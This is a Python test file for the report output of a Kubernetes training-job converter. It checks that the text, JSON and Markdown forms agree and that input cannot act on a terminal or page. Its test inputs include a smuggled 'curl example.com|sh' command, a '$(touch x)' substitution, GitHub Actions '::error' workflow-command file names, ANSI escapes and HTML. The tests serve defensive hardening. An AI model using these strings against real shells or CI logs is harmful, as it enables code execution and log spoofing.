"""The three forms of the report say the same, and nothing in them acts on a terminal or on a page."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from fcompile.cli import main
from fcompile.convert.report import report
from tests.convert.operator import DATA, convert

EVERYTHING = (DATA / "jobs" / "pytorch-everything.yaml").read_text("utf-8")
JAX = (DATA / "jobs" / "jax.yaml").read_text("utf-8")
REFUSED = EVERYTHING.replace("name: bert-large\n", "generateName: bert-\n", 1)


def written(text: str, form: str, *, verbose: bool = False) -> str:
    return "".join(report(convert(text), form, verbose=verbose))


def test_text_has_each_difference_with_its_place() -> None:
    lines = written(EVERYTHING, "text").splitlines()
    assert lines[0] == "job.yaml:2:1: PyTorchJob research/bert-large → Framework bertlarge (master ×1, worker ×2)"
    place = next(line for line in lines if "backoffLimit" in line)
    assert place.startswith("  job.yaml:21:19: spec.runPolicy.backoffLimit: different: the Pod of each task may be made anew 3×")
    assert lines[lines.index(place) + 1].startswith("    why: ")
    assert lines[lines.index(place) + 2].startswith("    do:  ")
    assert lines[-1] == f"Converted 1 of 1 job; {sum(': different: ' in line for line in lines)} differences."


def test_verbose_has_the_others_too() -> None:
    short, long = (written(EVERYTHING, "text", verbose=verbose) for verbose in (False, True))
    assert "metadata.uid" not in short
    assert "metadata.uid: dropped without effect: the API server wrote it" in long
    assert "metadata.name: converted: metadata.name: bertlarge" in long


def test_a_refused_job() -> None:
    lines = written(REFUSED, "text").splitlines()
    assert lines[0].endswith("PyTorchJob research/bert-…: refused")
    assert "generateName" in lines[1]
    assert lines[-1] == "Converted 0 of 1 job; 0 differences."


def test_json_and_markdown_have_as_many_fields() -> None:
    (account,) = convert(EVERYTHING).accounts
    (made,) = json.loads(written(EVERYTHING, "json"))["objects"]
    assert len(made["fields"]) == len(account.entries)
    assert made["framework"] == "bertlarge"
    lines = written(EVERYTHING, "markdown", verbose=True).splitlines()
    rows = [line for line in lines if line.startswith("- [ ] ") or (line.startswith("| ") and line[2].isdigit())]
    assert len(rows) == len(account.entries)


def test_markdown_is_a_list_to_tick_off() -> None:
    conversion = convert(EVERYTHING)
    (account,) = conversion.accounts
    lines = written(EVERYTHING, "markdown").splitlines()
    assert lines[2] == f"**1 of 1 job converted**; {len(account.different)} differences to look at."
    assert sum(line.startswith("- [ ] ") for line in lines) == len(account.different)
    assert "Other fields: 17 converted, 9 dropped without effect." in lines
    assert not [line for line in lines if "metadata.uid" in line], "only with --verbose"
    place = lines.index(next(line for line in lines if "schedulingPolicy" in line))
    assert lines[place : place + 3] == [
        "- [ ] `spec.runPolicy.schedulingPolicy` (line 25): **not yet there: its Pods are scheduled one by one**",
        "  <br>Why: Framework has no such field yet.",
        "  <br>To do: for a gang, make a PodGroup, and give the Pods its name: for the coscheduling plugin in the label "
        "`scheduling.x-k8s.io/pod-group`, for Volcano in the annotation `scheduling.k8s.io/group-name`.",
    ]


def test_markdown_has_a_table_of_several_jobs_and_what_is_refused() -> None:
    lines = written(f"{REFUSED}---\n{JAX}", "markdown").splitlines()
    assert lines[2] == "**1 of 2 jobs converted**, 1 refused; 2 differences to look at."
    assert "| JAXJob research/pax-lm<br>`job.yaml:93` | Framework paxlm (worker ×4) | 2 |" in lines
    (reason,) = [line for line in lines if line.startswith("- `metadata.generateName` (line ")]
    assert reason.endswith("`generateName` cannot be converted; write `name`"), "what is code stays code"


@pytest.mark.parametrize("name", ["a`b", "``a`", "x` <i>y</i> `", "@a", "[a](b)", "1 | 2", "~~a~~", "&lt;", "# a"])
def test_markdown_of_any_name_is_text_or_code(name: str) -> None:
    job = EVERYTHING.replace("backoffLimit: 3", f"{json.dumps(name)}: 3").replace("name: bert-large\n", f"name: {json.dumps(name)}\n", 1)
    found = written(job, "markdown", verbose=True)
    outside = re.sub(r"\\.|`[^`\n]*`", "", found)
    assert not re.search(r"<(?!/?(?:br|details|summary)>)|@(?!&#8203;)|\]\(|~~|`", outside)
    assert all(line.count("|") in (4, 0) for line in outside.splitlines() if line.startswith("| "))


def test_markdown_mentions_nobody_and_no_issue() -> None:
    """An entity or an escape does not help: on GitHub, names and numbers are looked for in the page that comes out."""
    job = EVERYTHING.replace("name: bert-large\n", 'name: "@team/infra #12"\n', 1)
    assert "@&#8203;team/infra \\#&#8203;12" in written(job, "markdown")


@pytest.mark.parametrize("name", ["a|b.yaml", "::error title=x::pwned.yaml", " ::error::x.yaml", "##[error]x.yaml", "`a` @b.yaml"])
def test_no_name_of_a_file_acts(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / name).write_text(f"{REFUSED}---\n{JAX}", "utf-8")
    for form in ("text", "markdown", "json"):
        main(["convert", "--verbose" if form != "json" else "--strict", "--format", form, name])
        lines = capsys.readouterr().err.splitlines()
        assert not [line for line in lines if line.lstrip().startswith(("::", "##["))]
        assert all(re.sub(r"\\\\|\\\|", "", line).count("|") == 4 for line in lines if line.startswith("| "))


def test_what_is_to_be_pasted_into_a_shell_is_quoted() -> None:
    def refused(**reference: str) -> str:
        spec = {"runtimeRef": reference}
        job = {"apiVersion": "trainer.kubeflow.org/v1alpha1", "kind": "TrainJob", "metadata": {"name": "t"}, "spec": spec}
        (account,) = convert(json.dumps(job)).refused
        return account.reasons[0].text

    assert "`kubectl get clustertrainingruntime '$(touch x)' -o yaml`" in refused(name="$(touch x)")
    found = refused(name="a", kind="X; curl example.com|sh #")
    assert found == "there is no such kind of runtimes: it must be ClusterTrainingRuntime or TrainingRuntime"


def test_what_is_long_is_cut() -> None:
    job = EVERYTHING.replace("name: bert-large\n", f"name: {'-' * 100_000}\n", 1).replace("backoffLimit", "k" * 100_000)
    assert all(len(written(job, form, verbose=form != "json")) < 50_000 for form in ("text", "markdown", "json"))


def test_nothing_of_the_input_acts() -> None:
    job = EVERYTHING.replace("generation: 1", '"a\\x1b[31m|<b>": 1')
    for form in ("text", "json", "markdown"):
        assert "\x1b" not in written(job, form, verbose=True)
    assert "<b>" not in re.sub("`[^`]*`", "", written(job, "markdown")), "outside of code"


def test_each_difference_is_a_comment_too() -> None:
    conversion = convert(EVERYTHING)
    comments = [line for line in conversion.text().splitlines() if line.lstrip().startswith("#")]
    for entry in conversion.accounts[0].different:
        assert any(entry.what in line or str(entry.path[-1]) in line for line in comments), entry


def test_comments_of_a_job_that_are_left_out_are_counted() -> None:
    head = "# who runs it\n---\n"
    job = JAX.replace("  replicas: 4", "  replicas: 4  # as many as there are nodes").replace("--peer=", "--peer=#1 # no comment ")
    for text in (head + job, head.replace("---", "") + job):
        assert "  note: 2 comments are left out (lines 1, 11).\n" in written(text, "text")
    assert "left out (" not in written(JAX, "text")


def test_a_comment_may_stand_at_a_block_and_not_in_it() -> None:
    block = "args:\n            - |  # said\n              # not said\n              echo 'a # b'\n            imagePullPolicy"
    assert "  note: 1 comment is left out (line 18).\n" in written(JAX.replace("imagePullPolicy", block), "text")


def test_comments_of_a_list_are_those_of_its_items() -> None:
    items = ["- " + JAX.replace("pax-lm", name).replace("\n", "\n  ").rstrip() + "\n" for name in ("pax-a", "pax-b")]
    items[1] = items[1].replace("replicas: 4", "replicas: 4  # enough")
    (first, second) = convert("apiVersion: v1\nkind: List\nitems:\n" + "".join(items)).jobs
    assert first.made is not None
    assert second.made is not None
    line = second.span(("spec", "jaxReplicaSpecs", "Worker", "replicas")).line
    found = [[remark for remark in made.remarks if "comment" in remark] for made in (first.made, second.made)]
    assert found == [[], [f"1 comment is left out (line {line})"]]


@pytest.mark.parametrize(
    ("text", "fields"),
    [
        (EVERYTHING, "`activeDeadlineSeconds`, `cleanPodPolicy`, `ttlSecondsAfterFinished`, `service` and sums with the index"),
        (JAX, "`cleanPodPolicy` and `service`"),
    ],
)
def test_what_upstream_does_not_know_is_noted_once(text: str, fields: str) -> None:
    found = [line for line in written(text, "text").splitlines() if "FrameworkController" in line]
    assert len(found) == 1
    assert found[0].endswith(f"{fields}.")


@pytest.mark.parametrize("form", ["text", "markdown"])
def test_what_many_jobs_share_is_said_once(form: str) -> None:
    def said(count: int) -> str:
        return written("---\n".join(JAX.replace("pax-lm", f"pax-{number}") for number in range(count)), form)

    what = "finished Pods stay for their logs"
    assert said(3).count(what) == 3
    many = said(9)
    assert many.count(what) == 1
    assert "in 9 jobs" in many
    assert "research/pax-0, research/pax-1, research/pax-2 and 6 more" in many
    assert many.count("is put together when it runs") == 9, "its remedy has the name of the job"


@pytest.mark.parametrize("form", ["text", "markdown", "json"])
def test_a_note_of_a_text_that_several_roles_have_is_said_once(form: str) -> None:
    jobset = (DATA / "jobs" / "jobset.yaml").read_text("utf-8")
    jobset = jobset.replace("replicas: 1", "replicas: 3").replace('["--driver=', '["ping --driver=')
    assert "workers2 ×3" in written(jobset, "text")
    said = written(jobset, form)
    assert said.count("has addresses in place of names of Pods") == 1


@pytest.mark.parametrize("form", ["text", "markdown"])
def test_which_controller_runs_them_is_said_once(form: str) -> None:
    said = written(f"{JAX}---\n{EVERYTHING}---\n{REFUSED}", form)
    (line,) = [line for line in said.splitlines() if "FrameworkController" in line]
    assert "n 2 jobs: " in line
    assert re.sub(r"[`\\]", "", line).endswith(
        "know activeDeadlineSeconds, cleanPodPolicy, ttlSecondsAfterFinished, service and sums with the index."
    )
    notes = [one["notes"] for one in json.loads(written(f"{JAX}---\n{EVERYTHING}", "json"))["objects"]]
    assert ["FrameworkController" in " ".join(found) for found in notes] == [True, True]


def test_json_has_every_field_of_every_job() -> None:
    found = json.loads(written("---\n".join(JAX.replace("pax-lm", f"pax-{number}") for number in range(9)), "json"))
    assert sum(field["field"].endswith("cleanPodPolicy") for one in found["objects"] for field in one["fields"]) == 9


def test_a_note_that_many_jobs_share_is_said_once() -> None:
    elastic = (DATA / "jobs" / "pytorch-everything.yaml").read_text("utf-8")
    text = "---\n".join(elastic.replace("bert-large", f"bert-{number}") for number in range(5))
    for form in ("text", "markdown"):
        assert written(text, form).count("init-pytorch") == 1
